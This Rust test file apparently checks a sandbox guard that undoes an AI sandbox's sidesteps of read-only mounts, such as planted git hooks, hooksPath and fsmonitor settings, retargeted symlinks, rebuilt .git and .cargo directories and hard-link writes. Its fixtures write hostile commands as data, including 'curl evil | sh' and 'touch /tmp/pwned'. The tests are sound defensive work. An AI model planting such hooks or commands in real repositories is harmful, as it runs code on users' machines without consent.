//! The guard on a real directory: every sidestep of the read-only mounts is undone, an untouched
//! project is left untouched, and nothing is deleted (the sandbox's versions are set aside).

use super::*;

struct Fixture {
    _tmp: tempfile::TempDir,
    project: PathBuf,
    store: PathBuf,
    quarantine: PathBuf,
}

fn fixture() -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let project = tmp.path().join("p");
    fs::create_dir_all(project.join(".git/hooks")).unwrap();
    fs::create_dir_all(project.join(".git/objects")).unwrap();
    fs::write(project.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(project.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    fs::write(project.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
    fs::create_dir_all(project.join(".vscode")).unwrap();
    fs::write(project.join(".vscode/tasks.json"), "{}\n").unwrap();
    fs::write(project.join("main.rs"), "fn main() {}\n").unwrap();
    let store = tmp.path().join("store");
    let quarantine = tmp.path().join("quarantine");
    Fixture { project, store, quarantine, _tmp: tmp }
}

/// What a launch found, as if nothing could be mounted read-only: every change below is one the
/// sandbox could have made (a sidestep), which the mounted case must not be mistaken for.
fn unmounted(project: &Path) -> Protected {
    Protected { mounts: Vec::new(), repos: repos::scan(project).unwrap(), writable: Vec::new() }
}

fn run(f: &Fixture, change: impl FnOnce(&Path)) -> Vec<String> {
    let rels = candidates(&["scripts/deploy.sh".into()]);
    let m = snapshot(&f.project, &rels, &unmounted(&f.project), &f.store, "s1", false).unwrap();
    change(&f.project);
    let loaded = load(&f.store).unwrap();
    assert_eq!(loaded.entries, m.entries);
    verify_and_restore(&loaded, &f.quarantine).unwrap().restored
}

#[test]
fn an_untouched_project_is_left_alone_and_ordinary_files_are_not_watched() {
    let f = fixture();
    let report = run(&f, |p| {
        fs::write(p.join("main.rs"), "fn main() { println!(); }\n").unwrap();
        fs::write(p.join(".git/objects/ab"), "object").unwrap();
    });
    assert!(report.is_empty(), "{report:?}");
    assert_eq!(fs::read_to_string(f.project.join("main.rs")).unwrap(), "fn main() { println!(); }\n");
    assert!(f.project.join(".git/objects/ab").exists(), "normal git work is not undone");
}

#[test]
fn a_planted_hook_and_a_config_change_are_undone_and_kept_aside() {
    let f = fixture();
    let report = run(&f, |p| {
        fs::write(p.join(".git/hooks/post-commit"), "#!/bin/sh\ntouch /tmp/pwned\n").unwrap();
        fs::write(p.join(".git/config"), "[core]\n\thooksPath = /tmp/evil\n").unwrap();
        fs::write(p.join(".envrc"), "curl evil | sh\n").unwrap();
    });
    assert_eq!(report.len(), 3, "{report:#?}");
    assert!(!f.project.join(".git/hooks/post-commit").exists());
    assert!(!f.project.join(".envrc").exists());
    assert_eq!(fs::read_to_string(f.project.join(".git/config")).unwrap(), "[core]\n\tbare = false\n");
    assert!(fs::read_to_string(f.quarantine.join(".git/config")).unwrap().contains("hooksPath"));
    assert!(f.quarantine.join(".git/hooks/post-commit").exists(), "the sandbox's hook is kept aside");
    assert!(report.iter().any(|l| l.starts_with(".git/config: changed during the session; restored")));
    assert!(report.iter().any(|l| l.starts_with(".git/hooks/post-commit: created during the session")));
}

#[test]
fn git_turned_into_a_gitdir_file_becomes_a_directory_again() {
    let f = fixture();
    let report = run(&f, |p| {
        fs::rename(p.join(".git"), p.join("elsewhere")).unwrap();
        fs::write(p.join(".git"), "gitdir: elsewhere-evil\n").unwrap();
    });
    assert!(f.project.join(".git").is_dir(), "{report:#?}");
    assert_eq!(fs::read_to_string(f.project.join(".git/config")).unwrap(), "[core]\n\tbare = false\n");
    assert!(f.project.join(".git/hooks/pre-commit.sample").exists());
    assert_eq!(fs::read_to_string(f.quarantine.join(".git")).unwrap(), "gitdir: elsewhere-evil\n");
    assert!(report[0].starts_with(".git: replaced during the session"), "{report:#?}");
    assert!(report[0].contains("moved to elsewhere; your repository is back at .git"), "{report:#?}");
    assert!(!f.project.join("elsewhere").exists(), "the renamed original is back at .git, not copied");
    assert_eq!(report.len(), 1, "nothing else differs from the record: {report:#?}");
}

#[test]
fn a_wholesale_replacement_of_git_is_named_with_where_the_original_went() {
    let f = fixture();
    let report = run(&f, |p| {
        fs::rename(p.join(".git"), p.join(".git-old")).unwrap();
        fs::create_dir_all(p.join(".git/hooks")).unwrap();
        fs::write(p.join(".git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n").unwrap();
        fs::write(p.join(".git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
    });
    let text = report.join("\n");
    assert!(text.contains(".git: replaced during the session") && text.contains(".git-old"), "{text}");
    assert!(!fs::read_to_string(f.project.join(".git/config")).unwrap().contains("fsmonitor"));
    assert!(!f.project.join(".git/hooks/post-checkout").exists());
    assert!(f.project.join(".git/hooks/pre-commit.sample").exists(), "the original hooks are back");
    // The user's repository itself (objects, refs, HEAD) is at .git again, the sandbox's aside.
    assert!(!f.project.join(".git-old").exists(), "{text}");
    assert!(f.project.join(".git/HEAD").exists() && f.project.join(".git/objects").is_dir());
    assert!(fs::read_to_string(f.quarantine.join(".git/config")).unwrap().contains("fsmonitor"));
    assert!(f.quarantine.join(".git/hooks/post-checkout").exists());
}

#[test]
fn deleted_and_retargeted_paths_come_back() {
    let f = fixture();
    fs::create_dir_all(f.project.join("scripts")).unwrap();
    fs::write(f.project.join("scripts/deploy.sh"), "echo deploy\n").unwrap();
    std::os::unix::fs::symlink("scripts/deploy.sh", f.project.join(".pnpmfile.cjs")).unwrap();
    let report = run(&f, |p| {
        fs::remove_dir_all(p.join(".vscode")).unwrap();
        fs::remove_file(p.join(".pnpmfile.cjs")).unwrap();
        std::os::unix::fs::symlink("/tmp/evil.cjs", p.join(".pnpmfile.cjs")).unwrap();
        fs::write(p.join("scripts/deploy.sh"), "curl evil | sh\n").unwrap();
    });
    assert_eq!(fs::read_to_string(f.project.join(".vscode/tasks.json")).unwrap(), "{}\n", "{report:#?}");
    assert_eq!(fs::read_link(f.project.join(".pnpmfile.cjs")).unwrap(), PathBuf::from("scripts/deploy.sh"));
    assert_eq!(
        fs::read_to_string(f.project.join("scripts/deploy.sh")).unwrap(),
        "echo deploy\n",
        "`protect` paths too"
    );
}

#[test]
fn protected_paths_that_exist_are_mounted_and_links_resolve_inside_the_project() {
    let f = fixture();
    fs::create_dir_all(f.project.join("tools")).unwrap();
    fs::write(f.project.join("tools/env.sh"), "export A=1\n").unwrap();
    std::os::unix::fs::symlink("tools/env.sh", f.project.join(".envrc")).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", f.project.join(".npmrc")).unwrap();
    let mounts = existing_mounts(&f.project, &candidates(&[])).unwrap().mounts;
    let rel: Vec<PathBuf> = mounts.iter().map(|m| relative(&f.project, m)).collect();
    assert!(rel.contains(&PathBuf::from(".git/hooks")) && rel.contains(&PathBuf::from(".git/config")));
    assert!(
        rel.contains(&PathBuf::from(".vscode"))
            && rel.contains(&PathBuf::from(".ai-sandbox")) == f.project.join(".ai-sandbox").exists()
    );
    assert!(rel.contains(&PathBuf::from("tools/env.sh")), "a link's target inside the project: {rel:?}");
    assert!(!mounts.iter().any(|m| m.starts_with("/etc")), "never a path outside the project");
    assert!(!rel.contains(&PathBuf::from(".envrc")), "links themselves are verified, not mounted");
}

#[test]
fn a_git_file_checkout_is_protected_by_its_gitdir_line() {
    let f = fixture();
    fs::remove_dir_all(f.project.join(".git")).unwrap();
    fs::write(f.project.join(".git"), "gitdir: /home/dev/repo/.git/worktrees/p\n").unwrap();
    let mounts = existing_mounts(&f.project, &candidates(&[])).unwrap().mounts;
    assert!(mounts.contains(&f.project.join(".git")), "the .git file is read-only inside: {mounts:?}");
    let report = run(&f, |p| fs::write(p.join(".git"), "gitdir: /tmp/evil\n").unwrap());
    assert_eq!(
        fs::read_to_string(f.project.join(".git")).unwrap(),
        "gitdir: /home/dev/repo/.git/worktrees/p\n"
    );
    assert!(report[0].starts_with(".git: changed during the session"), "{report:?}");
    // And an untouched one is left alone (positive control).
    let f = fixture();
    fs::remove_dir_all(f.project.join(".git")).unwrap();
    fs::write(f.project.join(".git"), "gitdir: ../x\n").unwrap();
    assert!(run(&f, |_| {}).is_empty());
}

#[test]
fn a_file_the_user_writes_through_write_trusted_is_kept_and_a_sandbox_write_is_still_undone() {
    let f = fixture();
    fs::create_dir_all(f.project.join(".ai-sandbox")).unwrap();
    fs::write(f.project.join(".ai-sandbox/config"), "allow = a.test\n").unwrap();
    // The records live in STATE/guard/SESSION, as the launcher keeps them.
    let state = f.store.parent().unwrap().join("state");
    let store = state.join("guard/s1");
    let rels = candidates(&[]);
    snapshot(&f.project, &rels, &unmounted(&f.project), &store, "s1", false).unwrap();
    let rel = Path::new(".ai-sandbox/config");
    write_trusted(&state, &f.project, rel, "allow = a.test\nallow = b.test\n").unwrap();
    fs::write(f.project.join(".vscode/tasks.json"), "{\"evil\": 1}\n").unwrap();
    let lines = verify_and_restore(&load(&store).unwrap(), &f.quarantine).unwrap().restored;
    assert_eq!(fs::read_to_string(f.project.join(rel)).unwrap(), "allow = a.test\nallow = b.test\n");
    assert!(!lines.iter().any(|l| l.contains(".ai-sandbox/config")), "{lines:?}");
    assert!(
        lines.iter().any(|l| l.contains(".vscode/tasks.json")),
        "the sandbox's write is still undone: {lines:?}"
    );
}

#[test]
fn host_edits_to_read_only_paths_are_kept_and_ambiguous_ones_say_the_way_back() {
    let f = fixture();
    fs::create_dir_all(f.project.join(".ai-sandbox")).unwrap();
    fs::write(f.project.join(".ai-sandbox/config"), "allow = a.test\n").unwrap();
    let rels = candidates(&[]);
    // Mounted read-only inside: what exists now, as the launch finds it.
    let protected = existing_mounts(&f.project, &rels).unwrap();
    snapshot(&f.project, &rels, &protected, &f.store, "s1", false).unwrap();
    // On the host: an editor saves the config by writing a new file and renaming it over, and
    // adds a file to .vscode; inside (or the host, no one can tell): a new .envrc.
    let cfg = f.project.join(".ai-sandbox/config");
    fs::write(f.project.join(".ai-sandbox/.config.tmp"), "allow = a.test\nallow = b.test\n").unwrap();
    fs::rename(f.project.join(".ai-sandbox/.config.tmp"), &cfg).unwrap();
    fs::write(f.project.join(".vscode/launch.json"), "{}\n").unwrap();
    fs::write(f.project.join(".envrc"), "echo hi\n").unwrap();
    let out = verify_and_restore(&load(&f.store).unwrap(), &f.quarantine).unwrap();
    assert_eq!(
        fs::read_to_string(&cfg).unwrap(),
        "allow = a.test\nallow = b.test\n",
        "the host's edit is kept"
    );
    assert!(f.project.join(".vscode/launch.json").exists());
    assert_eq!(out.kept.len(), 2, "{out:#?}");
    assert!(out.kept[0].starts_with(".ai-sandbox/config: changed on the host"), "{out:#?}");
    assert!(!f.project.join(".envrc").exists(), "absent at launch: not mounted, so restored");
    assert_eq!(out.restored.len(), 1, "{out:#?}");
    assert!(out.restored[0].contains("if you made this change yourself, restore it from"), "{out:#?}");
}

#[test]
fn a_read_only_path_under_a_rebuilt_directory_is_still_the_sandboxs() {
    let f = fixture();
    let rels = candidates(&[]);
    let protected = existing_mounts(&f.project, &rels).unwrap();
    assert!(protected.mounts.contains(&f.project.join(".git/config")), "{protected:?}");
    snapshot(&f.project, &rels, &protected, &f.store, "s1", false).unwrap();
    // The sidestep: .git renamed (its mounts go with it) and built again with a planted config.
    fs::rename(f.project.join(".git"), f.project.join(".git-real")).unwrap();
    fs::create_dir_all(f.project.join(".git/hooks")).unwrap();
    fs::write(f.project.join(".git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
    let out = verify_and_restore(&load(&f.store).unwrap(), &f.quarantine).unwrap();
    assert!(out.kept.is_empty(), "{out:#?}");
    assert_eq!(fs::read_to_string(f.project.join(".git/config")).unwrap(), "[core]\n\tbare = false\n");
    assert!(out.restored.iter().any(|l| l.starts_with(".git: replaced during the session")), "{out:#?}");
    assert!(!f.project.join(".git-real").exists(), "the user's .git is back in place");
    assert!(fs::read_to_string(f.quarantine.join(".git/config")).unwrap().contains("fsmonitor"));
}

fn nested_repo(dir: &Path, config: &str) {
    fs::create_dir_all(dir.join(".git/objects")).unwrap();
    fs::create_dir_all(dir.join(".git/refs")).unwrap();
    fs::create_dir_all(dir.join(".git/hooks")).unwrap();
    fs::write(dir.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(dir.join(".git/config"), config).unwrap();
}

#[test]
fn a_repository_below_the_root_is_verified_and_may_be_deleted_or_made_again() {
    let f = fixture();
    for r in ["keep", "gone", "again"] {
        nested_repo(&f.project.join("vendor").join(r), "[core]\n\tpager = mine\n");
    }
    let rels = candidates(&[]);
    let protected = existing_mounts(&f.project, &rels).unwrap();
    assert!(
        !protected.mounts.iter().any(|m| m.starts_with(f.project.join("vendor"))),
        "not mounted: it may be deleted inside: {:?}",
        protected.mounts
    );
    snapshot(&f.project, &rels, &protected, &f.store, "s1", false).unwrap();
    let v = f.project.join("vendor");
    // Changed in place: put back. Deleted: left deleted. Deleted and made again with a planted
    // setting: a new repository, cleaned as one (not given the old config back).
    fs::write(v.join("keep/.git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
    fs::remove_dir_all(v.join("gone")).unwrap();
    fs::remove_dir_all(v.join("again")).unwrap();
    nested_repo(&v.join("again"), "[core]\n\tbare = false\n\tfsmonitor = evil\n");
    let out = verify_and_restore(&load(&f.store).unwrap(), &f.quarantine).unwrap();
    assert_eq!(fs::read_to_string(v.join("keep/.git/config")).unwrap(), "[core]\n\tpager = mine\n");
    assert!(!v.join("gone").exists(), "a deleted repository stays deleted: {out:#?}");
    assert_eq!(fs::read_to_string(v.join("again/.git/config")).unwrap(), "[core]\n\tbare = false\n");
    let lines = out.restored.join("\n");
    assert!(lines.contains("vendor/keep/.git/config: changed during the session"), "{lines}");
    assert!(lines.contains("vendor/again/.git/config: a repository made during the session"), "{lines}");
    assert!(!lines.contains("vendor/gone"), "{lines}");
}

#[test]
fn a_rebuilt_directory_above_protected_files_is_named_with_where_the_original_went() {
    let f = fixture();
    fs::create_dir_all(f.project.join(".cargo")).unwrap();
    fs::write(f.project.join(".cargo/config.toml"), "[build]\n").unwrap();
    let report = run(&f, |p| {
        fs::rename(p.join(".cargo"), p.join(".cargo-old")).unwrap();
        fs::create_dir_all(p.join(".cargo")).unwrap();
        fs::write(p.join(".cargo/config.toml"), "[target.x]\nrunner = \"evil\"\n").unwrap();
    });
    let text = report.join("\n");
    assert!(text.contains(".cargo: replaced by another directory during the session"), "{text}");
    assert!(text.contains("the original is now at .cargo-old"), "{text}");
    assert_eq!(fs::read_to_string(f.project.join(".cargo/config.toml")).unwrap(), "[build]\n", "{text}");
}

#[test]
fn a_protected_file_with_another_name_is_made_its_own_and_a_write_through_a_second_name_is_undone() {
    use std::os::unix::fs::MetadataExt;
    let f = fixture();
    let cfg = f.project.join(".git/config");
    // An earlier version's review apply left `notes` as a second name of .git/config.
    fs::hard_link(&cfg, f.project.join("notes")).unwrap();
    let rels = candidates(&[]);
    let protected = existing_mounts(&f.project, &rels).unwrap();
    let m = snapshot(&f.project, &rels, &protected, &f.store, "s1", false).unwrap();
    assert_eq!(m.separated, [PathBuf::from(".git/config")]);
    let (a, b) = (fs::metadata(&cfg).unwrap(), fs::metadata(f.project.join("notes")).unwrap());
    assert_ne!(a.ino(), b.ino(), "still one file under two names");
    assert_eq!((a.nlink(), fs::read(&cfg).unwrap()), (1, fs::read(f.project.join("notes")).unwrap()));
    // Inside, the writable name is written: the protected file is not.
    fs::write(f.project.join("notes"), "[core]\n\tfsmonitor = touch /tmp/pwned\n").unwrap();
    let out = verify_and_restore(&load(&f.store).unwrap(), &f.quarantine).unwrap();
    assert!(out.restored.is_empty() && out.kept.is_empty(), "{out:#?}");
    assert!(!fs::read_to_string(&cfg).unwrap().contains("fsmonitor"));
    // Control: a file with one name is left as it is (same inode).
    let before = fs::metadata(f.project.join(".vscode/tasks.json")).unwrap().ino();
    let m2 = snapshot(&f.project, &rels, &existing_mounts(&f.project, &rels).unwrap(), &f.store, "s2", false)
        .unwrap();
    assert!(m2.separated.is_empty());
    assert_eq!(fs::metadata(f.project.join(".vscode/tasks.json")).unwrap().ino(), before);
    // A second name made during a session (however), then written: the change is taken for
    // the sandbox's, never for the host's, although the path was mounted read-only.
    fs::hard_link(&cfg, f.project.join("notes2")).unwrap();
    std::io::Write::write_all(
        &mut fs::OpenOptions::new().append(true).open(f.project.join("notes2")).unwrap(),
        b"[core]\n\tfsmonitor = touch /tmp/pwned\n",
    )
    .unwrap();
    let out = verify_and_restore(&load(&f.store).unwrap(), &f.quarantine).unwrap();
    assert!(out.kept.is_empty(), "taken for the host's: {out:#?}");
    assert!(out.restored[0].starts_with(".git/config: changed during the session"), "{out:#?}");
    assert!(!fs::read_to_string(&cfg).unwrap().contains("fsmonitor"));
}
